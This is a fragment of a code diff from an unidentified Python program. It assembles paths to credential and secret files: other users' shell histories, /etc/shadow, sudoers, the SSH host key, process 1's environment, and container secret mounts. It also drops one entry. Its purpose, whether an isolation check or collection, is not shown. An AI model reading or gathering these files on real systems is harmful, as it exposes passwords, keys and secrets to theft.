@@ -29,14 +29,7 @@ names = (
     ".bash_history",
 )
 paths = [os.path.join(home, name) for home in homes if home not in ("/", "") and home != own for name in names]
-paths += [
-    "/etc/shadow",
-    "/etc/gshadow",
-    "/etc/sudoers",
-    "/etc/ssh/ssh_host_rsa_key",
-    "/proc/1/environ",
-    "/.dockerenv-secret",
-]
+paths += ["/etc/shadow", "/etc/gshadow", "/etc/sudoers", "/etc/ssh/ssh_host_rsa_key", "/proc/1/environ"]
 paths += (
     glob.glob("/var/run/secrets/**", recursive=True)[:20]
     + glob.glob("/run/secrets/*")
